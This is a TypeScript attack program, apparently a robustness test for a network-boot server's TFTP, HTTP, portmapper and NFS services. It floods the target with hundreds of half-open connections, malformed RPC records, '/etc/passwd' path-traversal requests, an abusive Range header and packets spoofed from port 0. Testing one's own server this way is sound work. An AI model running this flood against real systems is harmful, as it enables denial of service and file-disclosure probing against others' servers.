// Attacks a server in all ways of hostile machines at once, from many addresses, until it is
// stopped.
//
//     node attack-program.ts SERVER ADDRESS…

import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { connect } from 'node:net'
import { join } from 'node:path'
import { callRecord } from '../../protocols/support/rpc-client.ts'

const [server = '', ...addresses] = process.argv.slice(2)
const [tftp, http, portMapper, nfs] = [69, 80, 111, 2049]
/** The number of simultaneous connections to each port. */
const halfOpen = 600
const comeBackMs = 10_000
const fromPortZero = join(import.meta.dirname, 'from-port-zero.pl')

let turn = 0
const nextAddress = () => addresses[turn++ % addresses.length] ?? ''
const nfsCall = (procedure: number, fileHandle: Buffer) =>
  callRecord({}, 100003, procedure, (writer) => writer.opaque(fileHandle))

/** Streams of records that are broken or incomplete. */
const rpc = [
  () => Buffer.from('80000100abcd', 'hex'),
  () => Buffer.from('7fffffff', 'hex'),
  () => Buffer.from('ffffffff00000000', 'hex'),
  () => randomBytes(200),
  () => callRecord({}, 100003, 6, () => {}),
  () => nfsCall(1 + (turn % 21), randomBytes(turn % 80)),
]
const requests = {
  [http]: [
    () => Buffer.from('GET /boot.ipxe HTTP/1.1\r\nHo'),
    () => Buffer.from('GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n'),
    () =>
      Buffer.from(
        `GET /boot.ipxe HTTP/1.1\r\nHost: x\r\nRange: bytes=${'0-1,'.repeat(900)}9-\r\n\r\n`,
      ),
    () => Buffer.concat([Buffer.from('GET /'), randomBytes(9000)]),
  ],
  [nfs]: rpc,
  [portMapper]: rpc,
}

function open(port: number, all: readonly (() => Buffer)[]): void {
  const socket = connect({ port, host: server, localAddress: nextAddress() })
  socket.on('error', () => {})
  socket.on('connect', () => socket.write(all[turn % all.length]?.() ?? ''))
  socket.on('data', () => {})
  // A closed connection is opened again: about two hundred a second.
  socket.on('close', () => setTimeout(open, comeBackMs, port, all))
}

for (const [port, all] of Object.entries(requests)) {
  for (let count = 0; count < halfOpen; count++) open(Number(port), all)
}

/** Requests for existing, missing and outside files, and data that are not packets. */
const datagrams = [
  Buffer.from('\0\x01boot.ipxe\0octet\0blksize\x0065464\0windowsize\x0065535\0'),
  Buffer.from('\0\x01boot.ipxe\0octet\0'),
  Buffer.from('\0\x01none\0octet\0'),
  Buffer.from('\0\x01../../etc/passwd\0octet\0'),
  randomBytes(300),
]
for (let count = 0; count < 200; count++) {
  const socket = createSocket('udp4')
  socket.on('error', () => {})
  socket.bind({ address: nextAddress(), port: 0 }, () => {
    setInterval(() => {
      socket.send(datagrams[turn++ % datagrams.length] ?? '', tftp, server)
      const call = callRecord({}, 100005, 1, (writer) => writer.string('/srv/test'))
      socket.send(call.subarray(4), nfs, server)
    }, 500)
  })
}

/** Packets from port 0, to each port that answers datagrams: no answer is possible. */
setInterval(() => {
  const call = callRecord({}, 100005, 0).toString('hex', 4)
  const packets = datagrams.map((packet) => `${tftp}=${packet.toString('hex')}`)
  const calls = [portMapper, nfs].map((port) => `${port}=${call}`)
  spawn('perl', [fromPortZero, server, ...packets, ...calls])
}, 2000)
process.stdout.write('under way\n')
